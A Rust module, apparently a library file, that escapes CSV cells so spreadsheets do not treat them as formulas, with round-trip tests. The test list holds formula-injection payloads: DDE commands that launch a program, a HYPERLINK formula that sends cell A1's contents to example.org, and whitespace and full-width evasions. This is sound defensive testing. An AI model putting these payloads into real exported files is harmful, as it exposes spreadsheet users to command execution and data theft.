//! Tables for spreadsheets, as CSV in which no cell begins a formula.
//!
//! A cell that a spreadsheet could take for one is written behind an apostrophe, and so is one that begins with an apostrophe: what is
//! read back is what was written.

use csv::{ReaderBuilder, WriterBuilder};

/// What begins a formula in one spreadsheet or another, and the same letters at full width, small, or typographic.
const BEGINS: &[char] = &[
    '=', '+', '-', '@', '\t', '\r', '\n', '\0', '|', '%', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣',
    '﹫', '⁼', '⁺', '⁻', '₌', '₊', '₋', '−', '‐', '‑', '‒', '–', '—', '―', '﹘',
];

/// Letters that show nothing: what comes after them comes first for a reader.
fn is_silent(letter: char) -> bool {
    letter == ' '
        || letter.is_whitespace()
        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{ad}')
}

/// Returns a cell that is no formula in any spreadsheet.
pub fn cell(text: &str) -> String {
    let is_quoted = text.starts_with('\'');
    let first = text.chars().next();
    let shown = text.trim_start_matches(is_silent).chars().next();
    let begins = |letter: Option<char>| letter.is_some_and(|letter| BEGINS.contains(&letter));
    if is_quoted || begins(first) || begins(shown) {
        return format!("'{text}");
    }
    text.to_owned()
}

/// Returns what a cell was before it was written.
pub fn plain(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// Writes a table. Lines end as RFC 4180 says.
pub fn write<'a>(heading: &[&str], lines: impl IntoIterator<Item = &'a [String]>) -> String {
    let mut writer = WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    let kept = "a table in memory takes every line of as many cells as its heading has";
    writer.write_record(heading).expect(kept);
    for line in lines {
        let cells = line.iter().map(|text| cell(text));
        writer.write_record(cells).expect(kept);
    }
    let bytes = writer
        .into_inner()
        .expect("a table in memory is never full");
    String::from_utf8(bytes).expect("texts make a text")
}

/// Reads a table that [`write`] wrote: the lines below its heading. Nothing when it is none.
pub fn read(table: &str) -> Option<Vec<Vec<String>>> {
    let mut reader = ReaderBuilder::new().from_reader(table.as_bytes());
    let cells = |line: csv::StringRecord| line.iter().map(|cell| plain(cell).to_owned()).collect();
    reader.records().map(|line| line.ok().map(cells)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Cells that spreadsheets ran, or could.
    const FORMULAS: &[&str] = &[
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://example.org?\"&A1,\"look\")",
        "+1-1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{3000}＝1+1",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\u{202e}=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹦1",
        "﹢1",
        "﹣1",
        "﹫a",
        "−1",
        "–1",
        "|calc",
        "%0A=1",
        "\"=1+1",
        "';=1+1",
        "'=1+1",
        "''",
        "=1+1\";=1+1",
        "-",
        "=",
    ];

    const PLAIN: &[&str] = &[
        "",
        "Okonkwo, Ada",
        "105.00",
        "26A1-K7Q-000123",
        "a=b",
        "5 - 3",
        "García \"María\"",
        "two\nlines",
        "محمد",
        "张伟",
        "a'b",
    ];

    #[test]
    fn no_cell_begins_a_formula() {
        for text in FORMULAS {
            let written = cell(text);
            let first = written.chars().next().expect("something");
            assert!(first == '\'' || first == '"', "{text:?} became {written:?}");
        }
        for text in PLAIN {
            assert_eq!(cell(text), *text);
        }
    }

    #[test]
    fn what_is_read_back_is_what_was_written() {
        let all: Vec<Vec<String>> = FORMULAS
            .iter()
            .chain(PLAIN)
            .map(|text| vec![(*text).to_owned(), "x".to_owned()])
            .collect();
        let table = write(&["what", "and"], all.iter().map(Vec::as_slice));
        assert_eq!(read(&table), Some(all));
        assert_eq!(read("a,b\r\n1"), None, "a line of too few cells");
    }
}
